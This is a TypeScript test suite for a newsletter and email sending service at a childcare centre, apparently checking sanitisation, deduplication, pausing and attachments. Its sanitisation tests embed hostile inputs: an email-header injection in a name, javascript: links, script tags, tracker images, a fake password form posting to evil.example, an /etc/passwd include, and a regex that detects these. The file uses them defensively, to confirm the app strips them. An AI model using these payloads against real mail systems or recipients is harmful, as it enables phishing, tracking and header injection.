import { CallRefused } from '@nestling/api/harness/client.ts';
import { type Person, startTestServer, type TestServer } from '@nestling/api/harness/test-server.ts';
import { withFields } from '@nestling/rules/letters/blocks.ts';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { open } from '../../../outbox/post.ts';
import type { WholeEmail } from '../../../outbox/whole-email.ts';
import { aLocation } from '../../locations/test/locations.factory.ts';
import { aGuardianLink } from '../../relationships/test/relationships.factory.ts';
import { aRoom } from '../../rooms/test/rooms.factory.ts';
import { aStudent } from '../../students/test/students.factory.ts';
import { sendLetterBy } from '../send-job.ts';

let server: TestServer;
let elm: { id: number };
let manager: Person;
const parents: Person[] = [];
const sent: { to: string; letter: WholeEmail; key: string }[] = [];
/** What the mail program does before it takes a letter. */
let before: (to: string) => Promise<void> = async () => {};

beforeAll(async () => {
  server = await startTestServer();
  elm = await aLocation(server.tenant, { name: 'Elm' });
  manager = await server.as('manager', { locations: [elm] });
  for (const fname of ['Lucía', '<b>Zoë\r\nBcc: x@y.z', 'Cy', 'Ana', 'Ben']) {
    const one = await server.as('user');
    const child = await aStudent(server.tenant, { location_id: elm.id });
    await aGuardianLink(server.tenant, { student_id: child.id, user_id: one.id, alert: true });
    await server.tenant.db
      .updateTable('app_user')
      .set({ fname, email: `p${parents.length}@example.com` })
      .where('id', '=', one.id)
      .execute();
    parents.push(one);
  }
});
afterAll(() => server.close());

const blocks = [
  { id: 'head', type: 'heading', text: 'Dear {{first_name|family}}' },
  { id: 'text', type: 'text', html: '<p>Picture day <script>alert(1)</script><b>Friday</b></p>' },
  { id: 'butt', type: 'button', label: 'Open', href: 'https://example.com/day' },
  {
    id: 'cols',
    type: 'columns',
    left: [{ id: 'left', type: 'heading', text: 'Left' }],
    right: [{ id: 'rule', type: 'divider' }],
  },
];
const create = async (subject = 'News for {{first_name|you}}') => {
  const given = { name: 'March', template: { blocks }, location: elm.id, subject };
  const done = await manager.call('createNewsletter', given, 'status message newsletter { id }');
  expect(done.status, done.message).toBe('Success');
  return String(done.newsletter.id);
};
const send = (id: string, more: object = {}) =>
  manager.call('sendNewsletter', { id, locations: [elm.id], ...more }, 'status message send { id } errors { code }');
/** Runs the job once the moment has passed in which it could be held up. */
const work = async (sendId: string) => {
  server.clock.tick(30_000);
  await sendLetterBy(() => async (to, letter, key) => {
    await before(to);
    sent.push({ to, letter, key });
  })(server.job(), { send: Number(sendId) });
};
const log = async (id: string) =>
  (await manager.call('getNewsletterLog', { id, first: 50 }, 'data { email status reason }')).data;

test('is made once, reads alike as a page and as text, greets by name, and shows the way out', async () => {
  const id = await create();
  const shown = await manager.call('previewNewsletter', { template: { blocks }, subject: 'x' }, 'html plain bytes');
  expect(shown.html).not.toContain('alert(1)');
  expect(shown.html).not.toMatch(/<link|@import|<img/);
  expect(shown.bytes).toBeLessThan(102_000);
  expect(shown.plain).toContain('Open: https://example.com/day');
  expect(await manager.call('newsletterAudience', { locations: [elm.id] }, 'count left_out')).toEqual({
    count: 5,
    left_out: 0,
  });
  const done = await send(id);
  expect([done.status, done.errors]).toEqual(['Success', []]);
  await work(done.send.id);
  expect(sent.map(({ to }) => to).sort()).toEqual([0, 1, 2, 3, 4].map((n) => `p${n}@example.com`));
  const to = (n: number) => sent.find((one) => one.to === `p${n}@example.com`)?.letter;
  expect(to(0)?.subject).toBe('News for Lucía');
  expect(to(0)?.html).toContain('Dear Lucía');
  expect(to(1)?.subject).not.toMatch(/[\r\n]/);
  expect(to(1)?.html).not.toContain('<b>Zoë');
  expect(withFields('Dear {{first_name|family}}', {}, (value) => value)).toBe('Dear family');
  expect(to(0)?.unsubscribe).not.toBe(to(1)?.unsubscribe);
  expect(to(0)?.plain).toContain(to(0)?.unsubscribe);
  // One click, and the next letter leaves that address out.
  const { pathname } = new URL(to(0)?.unsubscribe ?? '');
  await fetch(`http://localhost:${server.port}${pathname}`, { method: 'POST' });
  server.clock.tick(301_000);
  const next = await send(id);
  expect(next.errors).toEqual([{ code: 'UNSUBSCRIBED' }]);
  sent.length = 0;
  await work(next.send.id);
  expect(sent).toHaveLength(4);
});

test('a job killed in the middle goes on: each under its own id, nobody left out', async () => {
  const id = await create('Killed');
  const { send: one } = await send(id);
  sent.length = 0;
  // Died with two taken and not noted: they are sent by the next run, beside those that still waited.
  await sql`update letter_recipient set status = 'sending', at = ${server.clock.now()}::timestamptz
    where send_id = ${Number(one.id)} and email in ('p1@example.com', 'p2@example.com')`.execute(server.tenant.db);
  await work(one.id);
  await work(one.id);
  expect(new Set(sent.map(({ key }) => key)).size).toBe(4);
  expect(sent).toHaveLength(4);
  const states = (await log(id)).map(({ status }: { status: string }) => status).sort();
  expect(states).toEqual(['sent', 'sent', 'sent', 'sent', 'unsubscribed']);
});

test('pressed twice, in two tabs at once, it goes to each once; to others it goes at once', async () => {
  const id = await create('Pressed');
  const pressed = await Promise.all([send(id), send(id)]);
  expect(pressed.map(({ status }) => status).sort()).toEqual(['Error', 'Success']);
  expect(pressed.find(({ status }) => status === 'Error')?.errors).toEqual([{ code: 'TWICE' }]);
  sent.length = 0;
  for (const one of pressed) if (one.send) await work(one.send.id);
  expect(sent).toHaveLength(4);
  expect((await send(await create('Another'))).status).toBe('Success');
  server.clock.tick(301_000);
  expect((await send(id)).status).toBe('Success');
});

test('two processes at one letter do not send it twice', async () => {
  const { send: one } = await send(await create('Twice'));
  sent.length = 0;
  let others: Promise<void> | undefined;
  before = async () => {
    // The second one comes while the first has its batch in hand.
    others ??= work(one.id);
    await others;
  };
  await work(one.id);
  before = async () => {};
  expect(sent.map(({ to }) => to).sort()).toEqual([...new Set(sent.map(({ to }) => to))].sort());
  expect(sent).toHaveLength(4);
});

test('is paused and goes on; a refusal is tried again or noted; a later one waits for its moment', async () => {
  const id = await create('Paused');
  const { send: one } = await send(id);
  sent.length = 0;
  const pause = (paused: boolean) => manager.call('pauseNewsletter', { id: one.id, paused }, 'status message');
  expect(await pause(true)).toEqual({ status: 'Success', message: 'Paused. Nobody has received it yet.' });
  await work(one.id);
  expect(sent).toEqual([]);
  expect((await pause(true)).status).toBe('Error');
  await pause(false);
  before = async (to) => {
    if (to === 'p1@example.com') throw new Error('550 no such mailbox');
    if (to === 'p2@example.com') throw new Error('450 busy');
  };
  await work(one.id);
  expect((await pause(true)).message).toBe('Paused. It already went to 2 addresses.');
  await pause(false);
  server.clock.tick(400_000);
  before = async (to) => {
    if (to === 'p1@example.com') throw new Error('never asked again');
  };
  await work(one.id);
  const rows = await log(id);
  const of = (n: number) => rows.find(({ email }: { email: string }) => email === `p${n}@example.com`);
  expect([of(1)?.status, of(2)?.status]).toEqual(['failed', 'sent']);
  expect(of(1)?.reason).toContain('550');
  before = async () => {};
  const later = await send(id, { at: new Date(server.clock.now().getTime() + 3_600_000).toISOString() });
  sent.length = 0;
  await work(later.send.id);
  expect(sent).toEqual([]);
  server.clock.tick(3_700_000);
  await work(later.send.id);
  expect(sent).toHaveLength(4);
});

test('links that run are refused; published ones are read by families; copies are not published', async () => {
  const bad = [{ id: 'butt', type: 'button', label: 'x', href: 'javascript:alert(1)' }];
  await expect(
    manager.call('createNewsletter', { name: 'Bad', template: { blocks: bad } }, 'status'),
  ).rejects.toMatchObject({ code: 'BAD_INPUT' });
  const id = await create();
  const read = async () =>
    (await parents[0]?.call('publishedNewsletters', { location: elm.id, first: 9 }, 'data { id sends }'))?.data;
  expect(await read()).toEqual([]);
  expect((await manager.call('publishNewsletter', { id }, 'status')).status).toBe('Success');
  expect((await manager.call('publishNewsletter', { id }, 'status')).status).toBe('Error');
  expect(await read()).toEqual([{ id, sends: null }]);
  const copy = await manager.call('duplicateNewsletter', { id }, 'newsletter { id published name }');
  expect(copy.newsletter).toMatchObject({ published: false, name: 'March (2)' });
  await manager.call('unpublishNewsletter', { id }, 'status');
  expect(await read()).toEqual([]);
});

test('a page that is uploaded becomes a template without what runs; names are taken once', async () => {
  const admin = await server.as('admin');
  const file = '<body onload="x()"><h1>Hi</h1><script>x()</script><img src="http://track.example/p.gif"></body>';
  const upload = (name: string) => admin.call('uploadNewsletterTemplate', { file, name }, 'status errors { code }');
  expect((await upload('Spring')).status).toBe('Success');
  expect((await upload('spring')).errors).toEqual([{ code: 'TAKEN' }]);
  const [one] = (await admin.call('newsletterTemplates', { first: 9 }, 'data { id template uploaded }')).data;
  expect([one.uploaded, one.template.blocks[0].html]).toEqual([true, '<h1>Hi</h1>']);
});

test('what was sent stays in the log when the newsletter is deleted, and it is found there', async () => {
  const id = await create('To be deleted');
  const done = await send(id);
  await work(done.send.id);
  const whole = await log(id);
  expect(whole).toHaveLength(5);
  await manager.call('deleteNewsletter', { id }, 'status');
  expect(await log(id)).toEqual(whole);
  const list = async (deleted: boolean) =>
    (await manager.call('newsletters', { deleted, first: 50 }, 'data { id }')).data.map(
      (one: { id: string }) => one.id,
    );
  expect([(await list(false)).includes(id), (await list(true)).includes(id)]).toEqual([false, true]);
  expect(await manager.call('newsletter', { id }, 'id')).toBeNull();
  expect((await manager.call('sendNewsletter', { id, locations: [elm.id] }, 'status')).status).toBe('Error');
  const elsewhere = await server.as('manager', { locations: [await aLocation(server.tenant, { name: 'Oak' })] });
  await expect(elsewhere.call('getNewsletterLog', { id, first: 50 }, 'data { email }')).rejects.toThrow();
});

/** What opens an account elsewhere, follows its reader or covers what stands around it. */
const HOSTILE = `<script>alert(1)</script><img src="http://tracker.example/x.png"><link rel=stylesheet href=//tracker.example/c>
  <form action="http://evil.example/"><input name="password" type="password"><button>Sign in</button></form>
  <iframe src="http://evil.example/"></iframe><a href="javascript:alert(2)">a</a><p onclick="alert(3)">b</p>
  </mj-text></mj-column></mj-section><mj-raw><div style="position:fixed;inset:0;background:url(http://tracker.example/b)">cover</div>
  </mj-raw><mj-include path="/etc/passwd" /><p style="margin-top:-900px;font-size:900px;color:red;padding:9999px">kept</p>
  <table width="99999" bgcolor="#eee"><tr><td width="50%">cell &lt;/mj-text&gt; ]]&gt;</td></tr></table>`;
const RUNS =
  /<script|alert\(|tracker\.example|evil\.example|<form|<input|<button|<iframe|javascript:|onclick|position:\s*fixed|inset|margin-top:\s*-|900px|9999|<\/?mj-|passwd/i;

test('a page holds nothing that runs, is fetched, is filled in or leaves its place, whichever way it comes', async () => {
  const page = { id: 'page', type: 'page', html: HOSTILE };
  const template = {
    blocks: [page, { id: 'head', type: 'heading', text: '</mj-text><mj-raw><script>alert(1)</script>' }],
  };
  const shown = await manager.call('previewNewsletter', { template, subject: 'x' }, 'html plain');
  expect(shown.html).toContain('kept');
  expect(shown.html).toContain('&#60;script&#62;');
  const tags: string[] = shown.html.match(/<[^>!]*>/g) ?? [];
  for (const tag of tags) expect(tag).not.toMatch(RUNS);
  expect(shown.html).toContain('color:red');

  const made = await manager.call(
    'createNewsletter',
    { name: 'Hostile', template, location: elm.id },
    'newsletter { id }',
  );
  const id = String(made.newsletter.id);
  const kept = await server.tenant.db
    .selectFrom('newsletter')
    .select('template')
    .where('id', '=', Number(id))
    .executeTakeFirstOrThrow();
  expect(JSON.stringify(kept.template)).not.toMatch(/tracker|<form|<input|mj-raw><div|position/);
  // One that was kept before pages were cleaned is cleaned when it is sent.
  await server.tenant.db
    .updateTable('newsletter')
    .set({ template: JSON.stringify({ blocks: [page] }) })
    .where('id', '=', Number(id))
    .execute();
  const { status, send: gone } = await send(id, { subject: 'Of old' });
  expect(status).toBe('Success');
  const stored = await server.tenant.db
    .selectFrom('letter_send')
    .select('html')
    .where('id', '=', Number(gone.id))
    .executeTakeFirstOrThrow();
  expect(stored.html).toContain('kept');
  for (const tag of stored.html.match(/<[^>!]*>/g) ?? []) expect(tag).not.toMatch(RUNS);
});

/** A thread that is loaded while others work may be late: who is told to come again does so, as the portal. */
const patiently = async <T>(ask: () => Promise<T>): Promise<T> => {
  for (let times = 1; ; times += 1) {
    try {
      return await ask();
    } catch (error) {
      if (!(error instanceof CallRefused) || error.code !== 'NOT_READY' || times === 5) throw error;
    }
  }
};

test('the worst letter a manager may write keeps nobody waiting', async () => {
  const blank = (html: string) => ({ blocks: [{ id: 'page', type: 'page', html }] });
  const worst = [
    `<p>${' '.repeat(88_000)}x</p>`,
    '<br'.repeat(29_000),
    '<li><ul>'.repeat(11_000),
    '<b>x</b>'.repeat(11_000),
    `<p>${'x'.repeat(88_000)}</p>`,
  ].map(blank);
  const many = { blocks: Array.from({ length: 90 }, (_, i) => ({ id: `div${i}`.padEnd(5, 'x'), type: 'divider' })) };
  for (const template of [...worst, many]) {
    const began = process.threadCpuUsage();
    const shown = await patiently(() => manager.call('previewNewsletter', { template, subject: 'x' }, 'bytes'));
    const { user, system } = process.threadCpuUsage(began);
    expect(shown.bytes).toBeGreaterThan(100);
    expect((user + system) / 1000).toBeLessThan(400);
  }
});

test('two who edit one letter do not write over each other; each goes on over the own saving', async () => {
  const id = await create();
  const { updated_at: seen } = await manager.call('newsletter', { id }, 'updated_at');
  const save = (who: Person, given: object) =>
    who.call('updateNewsletter', { id, ...given }, 'status message newsletter { updated_at } errors { field code }');
  const other = await server.as('manager', { locations: [elm] });
  server.clock.tick(1000);
  const mine = await save(manager, { template: { blocks: blocks.slice(0, 1) }, seen });
  expect(mine.status).toBe('Success');
  server.clock.tick(1000);
  const theirs = await save(other, { template: { blocks: blocks.slice(1, 2) }, name: 'April', seen });
  expect([theirs.status, theirs.errors]).toEqual(['Error', [{ field: 'template', code: 'CHANGED' }]]);
  expect((await manager.call('newsletter', { id }, 'name template')).template.blocks).toHaveLength(1);
  // What the first left alone may be saved; the first goes on from what it was answered.
  expect((await save(other, { name: 'April', seen })).status).toBe('Success');
  const after = await save(manager, { template: { blocks }, seen: mine.newsletter.updated_at });
  expect(after.status).toBe('Success');
  expect(await manager.call('newsletter', { id }, 'name')).toEqual({ name: 'April' });
});

test('it is from whom the center says, with its footer and where it is below; a letter without a street says so before it goes', async () => {
  const { centre, db } = server.tenant;
  server.clock.tick(301_000);
  const id = await create('From whom');
  const asked = await send(id, { confirm: [] });
  expect(asked.status).toBe('Error');
  const { errors } = await manager.call(
    'sendNewsletter',
    { id, locations: [elm.id], confirm: [] },
    'errors { message }',
  );
  expect(JSON.stringify(errors)).toContain('No location has a street address');
  await db.updateTable('location').set({ address: '12 Elm St\nBoston, MA 02110' }).where('id', '=', elm.id).execute();
  const value = {
    from_name: 'Elm Office',
    from_email: null,
    reply_to: 'office@elm.example',
    footer: 'Write to us <any> time.',
  };
  const updated_at = server.clock.now();
  await db
    .insertInto('app_setting')
    .values({ centre_id: centre, key: 'custom_email', location_id: elm.id, value: JSON.stringify(value), updated_at })
    .execute();
  sent.length = 0;
  const done = await send(id);
  await work(done.send.id);
  const letter = sent[0]?.letter;
  expect([letter?.from, letter?.replyTo]).toEqual(['Elm Office', 'office@elm.example']);
  expect(letter?.html).toContain('Write to us &#60;any&#62; time.');
  expect(letter?.html).toContain('12 Elm St Boston, MA 02110');
  expect(letter?.plain).toMatch(/Write to us <any> time\.\n.*12 Elm St Boston, MA 02110$/);
  // Another location has not said so; the street of the center stands below its letters, too.
  const oak = await aLocation(server.tenant, { name: 'Birch' });
  const custom = { subject: 'Hello', msg: '<p>Hi</p>', users: [parents[1]?.id], locations: [oak.id] };
  const support = await server.as('kvsupport');
  const written = await support.call('sendCustomEmail', custom, 'status message send { id }');
  expect(written.status, written.message).toBe('Success');
  sent.length = 0;
  await work(written.send.id);
  expect(sent.map(({ letter: { from, html } }) => [from === 'Elm Office', html.includes('12 Elm St')])).toEqual([
    [false, true],
  ]);
});

test('a document goes along in every copy, whoever sends; a stranger’s, a photo and what is too large are refused', async () => {
  const support = await server.as('kvsupport');
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
  const keep = async (who: Person, bytes: Buffer, name: string): Promise<string> => {
    const file = `data:application/pdf;base64,${bytes.toString('base64')}`;
    const kept = await who.call('uploadFile', { file, name }, 'status message file_name');
    expect(kept.status, kept.message).toBe('Success');
    return kept.file_name;
  };
  const key = await keep(support, pdf, 'Summer plan.pdf');
  const ask = (more: object) =>
    support.call(
      'sendCustomEmail',
      { subject: 'Summer', msg: '<p>See the plan</p>', users: [parents[3]?.id, parents[4]?.id], ...more },
      'status message send { id file_name } errors { field code }',
    );
  const done = await ask({ attachment: key });
  expect([done.status, done.send?.file_name], done.message).toEqual(['Success', 'Summer plan.pdf']);
  sent.length = 0;
  await work(done.send.id);
  expect(sent.length).toBe(2);
  for (const { letter } of sent)
    expect(letter.attachments?.map(({ name, type, content }) => [name, type, Buffer.from(content, 'base64')])).toEqual([
      ['Summer plan.pdf', 'application/pdf', pdf],
    ]);
  // The same words with another document, or none, are another letter.
  expect((await ask({ attachment: key })).errors).toMatchObject([{ code: 'TWICE' }]);
  expect((await ask({})).status).toBe('Success');
  const foreign = await keep(manager, pdf, 'Mine.pdf');
  expect((await ask({ attachment: foreign })).errors).toMatchObject([{ field: 'attachment', code: 'UNKNOWN' }]);
  await server.tenant.db.updateTable('stored_file').set({ bytes: 6_000_000 }).where('key', '=', key).execute();
  expect((await ask({ attachment: key, subject: 'Large' })).errors).toEqual([
    { field: 'attachment', code: 'TOO_LONG' },
  ]);
  const both = {
    type: 'message',
    subject: 'x',
    msg: '<p>x</p>',
    users: [parents[3]?.id],
    attachment: foreign,
    file: key,
  };
  expect((await manager.call('sendNewsletterAction', both, 'status errors { field code }')).errors).toEqual([
    { field: 'file', code: 'TOO_MANY' },
  ]);
  const along = { ...both, subject: 'Along', attachment: undefined, file: foreign };
  const action = await manager.call('sendNewsletterAction', along, 'status message send { file_name }');
  expect([action.status, action.send?.file_name], action.message).toEqual(['Success', 'Mine.pdf']);
  const named = { ...both, subject: 'Named', attachment: foreign, file: undefined };
  expect((await manager.call('sendNewsletterAction', named, 'status')).status).toBe('Success');
  const before = await support.call('customEmails', { first: 20, search: 'Summer' }, 'data { subject file_name }');
  expect(before.data).toContainEqual({ subject: 'Summer', file_name: 'Summer plan.pdf' });
});

test('people of a role at a location are counted as they are written to; a room’s families too', async () => {
  const support = await server.as('kvsupport');
  const roles: { id: string; name: string }[] = await support.call('roles', {}, 'id name').catch(() => []);
  const managers = roles.find(({ name }) => name === 'manager')?.id;
  const count = async (args: Record<string, unknown>): Promise<number> =>
    (await support.call('newsletterAudience', args, 'count')).count;
  const of = { roles: [managers], locations: [elm.id] };
  expect(await count(of)).toBeGreaterThan(0);
  // Whom a role reaches is support's to know: a manager would read names of the whole center.
  for (const more of [{ roles: [managers] }, of])
    await expect(manager.call('newsletterAudience', more, 'count left { name }')).rejects.toThrow(CallRefused);
  const room = await aRoom(server.tenant, { location_id: elm.id });
  const before = await count(of);
  const child = await aStudent(server.tenant, { location_id: elm.id, room_id: room.id });
  await aGuardianLink(server.tenant, { student_id: child.id, user_id: parents[3]?.id ?? 0 });
  expect([await count({ programs: [room.id] }), await count({ ...of, programs: [room.id] })]).toEqual([1, before + 1]);
  const done = await support.call(
    'sendCustomEmail',
    { subject: 'Managers', msg: '<p>Hi</p>', ...of },
    'status message send { outcome }',
  );
  expect(done.status, done.message).toBe('Success');
  expect(done.send.outcome.waiting).toBe(await count(of));
});

test('the test letter is the letter: its page and its text, greeting who sends it, with a way out', async () => {
  const id = await create('Try {{first_name|you}}');
  await server.tenant.db.updateTable('app_user').set({ fname: 'Hannah' }).where('id', '=', manager.id).execute();
  expect(await manager.call('sendTestNewsletter', { id, email: 'try@example.com' }, 'status')).toEqual({
    status: 'Success',
  });
  const row = await server.tenant.db
    .selectFrom('outbox')
    .selectAll()
    .where('kind', '=', 'newsletter_test')
    .orderBy('id', 'desc')
    .executeTakeFirstOrThrow();
  const { subject, whole, from_name } = open(server.tenant.centre, row.key, row.sealed);
  expect([subject, from_name]).toEqual(['[Test] Try Hannah', 'Elm Office']);
  expect(whole?.html).toContain('Dear Hannah');
  expect(whole?.html).toContain('<table');
  for (const part of [whole?.html ?? '', whole?.plain ?? '']) {
    expect(part).not.toMatch(/\{\{|%%/);
    expect(part).toContain('12 Elm St');
    expect(part).toContain(whole?.unsubscribe);
  }
  expect((await log(id)).length).toBe(0);
});

test('one made from a template is filled from it; a template that is not offered is none', async () => {
  const admin = await server.as('admin');
  const template = { blocks: [{ id: 'head', type: 'heading', text: 'Ready-made' }] };
  const made = await admin.call('createNewsletterTemplate', { name: 'Ready', template }, 'newsletter { id }');
  const key = String(made.newsletter.id);
  const add = (blocks: object[]) =>
    manager.call(
      'createNewsletter',
      { name: 'Of a template', key, template: { blocks }, location: elm.id },
      'status errors { field code } newsletter { template key }',
    );
  expect(await add([])).toMatchObject({ status: 'Error', errors: [{ field: 'key', code: 'UNKNOWN' }] });
  await admin.call('publishNewsletterTemplate', { id: key, published: true }, 'status');
  expect((await add([])).newsletter).toMatchObject({ key, template });
  const own = { id: 'mine', type: 'heading', text: 'My own' };
  expect((await add([own])).newsletter.template.blocks).toEqual([own]);
});
